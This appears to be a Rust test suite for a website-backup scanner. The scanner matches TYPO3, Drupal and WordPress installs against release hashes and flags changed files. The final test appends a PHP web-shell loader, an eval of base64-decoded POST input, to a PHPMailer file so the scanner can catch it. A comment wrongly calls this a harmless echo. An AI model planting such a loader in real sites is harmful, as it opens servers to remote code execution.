//! Whole installs in every layout, built file by file from the bundled hash facts (the real
//! releases' hashes, so the diff sees exactly what a real install would give it): TYPO3 with
//! its system extensions (classic, `typo3_src-X.Y.Z/`, Composer), Drupal with its root files
//! and as a copy vendored into a plugin, releases that differ in one file, installs with a
//! third of their files gone, and libraries that plugins bundle.

use super::*;

/// The files of `name`'s release `version` under `mount`, every `keep`-th one kept (1: all).
fn release_files(name: &str, version: &str, mount: &str, keep: usize) -> Vec<FileRecord> {
    let m = bundled(name).unwrap_or_else(|| panic!("no bundled {name}"));
    let v = m
        .version_index(version)
        .unwrap_or_else(|| panic!("{name} has no {version}"));
    let mut files = release_as_backup(&m, v, mount).files;
    if keep > 1 {
        files = files
            .into_iter()
            .enumerate()
            .filter(|(i, _)| i % keep != 0)
            .map(|(_, f)| f)
            .collect();
    }
    files
}

/// Analyses the files with every bundled manifest they need, as the CLI and the page do.
fn analyse(files: Vec<FileRecord>) -> engine::Report {
    let c = Collected {
        files,
        format: ArchiveFormat::Zip,
        ..Collected::default()
    };
    let mut set = HashMap::new();
    for name in judge::needed_manifests(&c) {
        set.insert(name.to_string(), bundled(name).unwrap());
    }
    judge::analyze(c, &set, &[], "site.zip")
}

fn changed(mut f: FileRecord) -> FileRecord {
    f.sha256[0] ^= 0xff;
    f.sha256_ws = None;
    f
}

/// TYPO3's system extensions of the reference data, as (key, Composer folder).
fn typo3_parts() -> Vec<(&'static str, &'static str)> {
    engine::know::cms::typo3::PARTS
        .iter()
        .map(|p| (p.key, p.composer))
        .collect()
}

#[test]
fn classic_typo3_with_a_third_of_its_files_gone_gets_its_exact_version() {
    let mut files = Vec::new();
    let mut shipped = 0;
    for (key, _) in typo3_parts() {
        let name = format!("typo3-cms-{}", key.replace('_', "-"));
        // not every system extension exists in every release
        if bundled(&name).unwrap().version_index("13.4.22").is_none() {
            continue;
        }
        shipped += 1;
        files.extend(release_files(
            &name,
            "13.4.22",
            &format!("site/typo3/sysext/{key}/"),
            3,
        ));
    }
    let total = files.len();
    let r = analyse(files);
    let t = r.cms.iter().find(|c| c.name == Cms::Typo3).unwrap();
    assert_eq!(t.version.as_deref(), Some("13.4.22"));
    assert_eq!(t.root, "site/");
    let h = t.recognised_by.hashes.as_ref().unwrap();
    assert_eq!(h.version, "13.4.22");
    assert!(h.missing > 500 && !h.missing_listed, "{h:?}");
    assert!(shipped >= 18, "{shipped}");
    assert_eq!(
        t.recognised_by.parts.len(),
        shipped - 1,
        "every system extension compared"
    );
    assert!(
        t.recognised_by.parts.iter().all(|p| p.version == "13.4.22"),
        "{:?}",
        t.recognised_by.parts
    );
    assert_eq!(
        r.summary.modified + r.summary.added + r.summary.unknown,
        0,
        "{:?}",
        r.summary
    );
    assert_eq!(
        r.summary.missing, 0,
        "a third absent is listed in the summary, not row by row"
    );
    assert_eq!(r.summary.unchanged as usize, total);
    let text = engine::present::render::text(&r, 50);
    assert!(
        text.contains(&format!("{} release files absent (not listed", h.missing)),
        "{text}"
    );
    assert!(text.contains("also compared: backend,"), "{text}");
}

#[test]
fn composer_typo3_and_a_changed_backend_file() {
    let mut files = Vec::new();
    for (key, composer) in typo3_parts() {
        let name = format!("typo3-cms-{}", key.replace('_', "-"));
        files.extend(release_files(
            &name,
            "12.4.20",
            &format!("app/vendor/typo3/{composer}/"),
            1,
        ));
    }
    let victim = files
        .iter()
        .position(|f| {
            f.path
                .ends_with("cms-backend/Classes/Controller/LoginController.php")
        })
        .unwrap();
    let f = files.remove(victim);
    let path = f.path.clone();
    files.push(changed(f));
    let r = analyse(files);
    let t = r.cms.iter().find(|c| c.name == Cms::Typo3).unwrap();
    assert_eq!(t.version.as_deref(), Some("12.4.20"));
    assert_eq!(t.root, "app/");
    let m = status_of(&r, &path).unwrap();
    assert_eq!(m.status, Status::Modified);
    assert_eq!(m.reference.as_deref(), Some("TYPO3 12.4.20 (backend)"));
    assert_eq!(r.summary.modified, 1);
    assert_eq!(r.summary.missing, 0);
}

#[test]
fn typo3_source_folder_beside_the_site_is_the_same_install() {
    let mut files = release_files(
        "typo3-cms-core",
        "11.5.41",
        "site/typo3_src-11.5.41/typo3/sysext/core/",
        1,
    );
    files.extend(release_files(
        "typo3-cms-frontend",
        "11.5.41",
        "site/typo3_src-11.5.41/typo3/sysext/frontend/",
        1,
    ));
    let r = analyse(files);
    let t = r.cms.iter().find(|c| c.name == Cms::Typo3).unwrap();
    assert_eq!(
        t.root, "site/",
        "the site is the folder that holds typo3_src-…"
    );
    assert_eq!(t.version.as_deref(), Some("11.5.41"));
    assert_eq!(t.recognised_by.parts.len(), 1);
    assert_eq!(
        r.summary.modified + r.summary.unknown + r.summary.missing,
        0
    );
}

/// Pairs of adjacent releases whose shipped files differ in exactly one path's content.
fn one_file_apart(m: &engine::Manifest) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    for v in 1..m.versions.len() {
        let differ = m
            .entries
            .iter()
            .filter(|e| m.in_version(e, v) != m.in_version(e, v - 1))
            .count();
        // one path changed = its old entry leaves, its new one arrives
        if differ == 2 {
            out.push((v - 1, v));
        }
    }
    out
}

#[test]
fn adjacent_releases_that_differ_in_one_file_are_told_apart() {
    let mut checked = 0;
    for (name, mount) in [
        ("wordpress", "s/"),
        ("drupal-core", "s/core/"),
        ("typo3-cms-core", "s/typo3/sysext/core/"),
    ] {
        let m = bundled(name).unwrap();
        for (older, newer) in one_file_apart(&m).into_iter().take(3) {
            for v in [older, newer] {
                let mut c = release_as_backup(&m, v, mount);
                // a third gone, but not the one file that tells them apart
                let telling: Vec<String> = m
                    .entries
                    .iter()
                    .filter(|e| m.in_version(e, older) != m.in_version(e, newer))
                    .map(|e| format!("{mount}{}", m.paths[e.path as usize]))
                    .collect();
                c.files = c
                    .files
                    .into_iter()
                    .enumerate()
                    .filter(|(i, f)| i % 3 != 0 || telling.contains(&f.path))
                    .map(|(_, f)| f)
                    .collect();
                if judge::needed_manifests(&c).is_empty() {
                    continue; // the marker file was among those dropped
                }
                let r = analyse(c.files);
                let got = r
                    .cms
                    .first()
                    .and_then(|i| i.recognised_by.hashes.as_ref())
                    .unwrap();
                assert_eq!(
                    got.version, m.versions[v],
                    "{name}: {} vs {}",
                    m.versions[older], m.versions[newer]
                );
                assert!(
                    got.tied_with.is_empty(),
                    "{name} {}: tied {:?}",
                    m.versions[v],
                    got.tied_with
                );
                checked += 1;
            }
        }
    }
    assert!(checked >= 4, "only {checked} pairs found one file apart");
}

#[test]
fn drupal_root_files_are_checked_through_the_scaffold_map() {
    let mut files = release_files("drupal-core", "11.2.5", "site/web/core/", 1);
    files.extend(release_files("drupal-scaffold", "11.2.5", "site/web/", 1));
    let index = files
        .iter()
        .position(|f| f.path == "site/web/index.php")
        .unwrap();
    let f = files.remove(index);
    files.push(changed(f));
    let own = FileRecord {
        name: "site/web/modules/custom/shop/shop.module".into(),
        path: "site/web/modules/custom/shop/shop.module".into(),
        ..files[0].clone()
    };
    files.push(changed(own));
    let r = analyse(files);
    let d = r.cms.iter().find(|c| c.name == Cms::Drupal).unwrap();
    assert_eq!(d.version.as_deref(), Some("11.2.5"));
    assert_eq!(d.root, "site/web/");
    let parts = &d.recognised_by.parts;
    assert_eq!(parts.len(), 1);
    assert_eq!(parts[0].part, "root files");
    let index = status_of(&r, "site/web/index.php").unwrap();
    assert_eq!(index.status, Status::Modified);
    assert_eq!(index.verdict, Verdict::Suspicious);
    assert_eq!(
        index.reference.as_deref(),
        Some("Drupal 11.2.5 (root files)")
    );
    let own = status_of(&r, "site/web/modules/custom/shop/shop.module").unwrap();
    assert_eq!(
        own.status,
        Status::Unknown,
        "the site's own module is not a release file"
    );
    assert_eq!(r.summary.modified, 1);
    assert_eq!(r.summary.missing, 0);
}

#[test]
fn drupal_core_vendored_into_a_wordpress_plugin_is_part_of_that_plugin() {
    let mut files = release_files("wordpress", "6.8.1", "", 1);
    let vendored = "wp-content/plugins/bridge/vendor/drupal-core/";
    let mut core = release_files("drupal-core", "11.2.5", vendored, 1);
    let victim = core
        .iter()
        .position(|f| f.path.ends_with("lib/Drupal/Core/DrupalKernel.php"))
        .unwrap();
    let f = core.remove(victim);
    let path = f.path.clone();
    core.push(changed(f));
    files.extend(core);
    let r = analyse(files);
    let wp = r.cms.iter().find(|c| c.name == Cms::WordPress).unwrap();
    assert_eq!(wp.version.as_deref(), Some("6.8.1"));
    let d = r.cms.iter().find(|c| c.name == Cms::Drupal).unwrap();
    assert_eq!(
        d.version.as_deref(),
        Some("11.2.5"),
        "never 'version unknown'"
    );
    assert!(d.recognised_by.hashes.is_some(), "never 'no clean copy'");
    assert_eq!(d.vendored_in.as_deref(), Some("wp-content/plugins/bridge/"));
    assert_eq!(
        r.roots,
        vec![String::new()],
        "a vendored copy is not a site"
    );
    let text = engine::present::render::text(&r, 50);
    assert!(
        text.contains("Drupal 11.2.5 in wp-content/plugins/bridge/vendor/drupal-core/"),
        "{text}"
    );
    assert!(
        text.contains("; shipped inside wp-content/plugins/bridge/"),
        "{text}"
    );
    let m = status_of(&r, &path).unwrap();
    assert_eq!(m.status, Status::Modified);
    assert_eq!(m.reference.as_deref(), Some("Drupal 11.2.5"));
    assert_eq!(r.summary.modified, 1);
}

#[test]
fn several_wordpress_installs_each_get_their_own_version() {
    let mut files = release_files("wordpress", "6.8.1", "public_html/", 2);
    files.extend(release_files("wordpress", "5.9.3", "public_html/blog/", 1));
    let r = analyse(files);
    let versions: Vec<(&str, Option<&str>)> = r
        .cms
        .iter()
        .map(|c| (c.root.as_str(), c.version.as_deref()))
        .collect();
    assert_eq!(
        versions,
        vec![
            ("public_html/", Some("6.8.1")),
            ("public_html/blog/", Some("5.9.3"))
        ]
    );
    assert_eq!(r.summary.modified + r.summary.added, 0, "{:?}", r.summary);
}

/// Debian's PHPMailer 6.6.3 (real bytes) bundled in a plugin: its files are named as the
/// library and never scanned; one of them with a loader appended is a changed copy of the
/// library, and the rules read it.
#[test]
fn bundled_library_copies_are_recognised_and_a_changed_one_stands_out() {
    let root = debian_tree("libphp-phpmailer").join("usr/share/php/libphp-phpmailer");
    let mut entries: Vec<(String, Vec<u8>)> = Vec::new();
    for (rel, bytes) in read_tree(&root) {
        let mut bytes = bytes;
        if rel == "src/POP3.php" {
            // defanged: the payload is a harmless echo, the shape is a real loader's
            bytes.extend_from_slice(
                b"\n<?php if(isset($_POST['k'])){eval(base64_decode($_POST['k']));} ?>\n",
            );
        }
        entries.push((
            format!("wp-content/plugins/mailer-pro/vendor/phpmailer/phpmailer/{rel}"),
            bytes,
        ));
    }
    let r = scan(&zip_files(&borrowed(&entries))).unwrap();
    let dir = "wp-content/plugins/mailer-pro/vendor/phpmailer/phpmailer/";
    let mailer = status_of(&r, &format!("{dir}src/PHPMailer.php")).unwrap();
    assert_eq!(mailer.verdict, Verdict::Clean);
    assert!(mailer.findings.is_empty());
    let note = mailer.note.as_deref().unwrap_or("");
    assert!(
        note.contains("phpmailer/phpmailer") && note.contains("6.6.3"),
        "{note}"
    );
    let pop = status_of(&r, &format!("{dir}src/POP3.php")).unwrap();
    assert_eq!(pop.status, Status::Modified, "{pop:?}");
    assert_eq!(
        pop.verdict,
        Verdict::Malicious,
        "the rules read a changed copy: {pop:?}"
    );
    assert!(
        pop.note
            .as_deref()
            .unwrap_or("")
            .contains("this copy of the library was changed"),
        "{pop:?}"
    );
    assert_eq!(r.summary.malicious, 1);
}
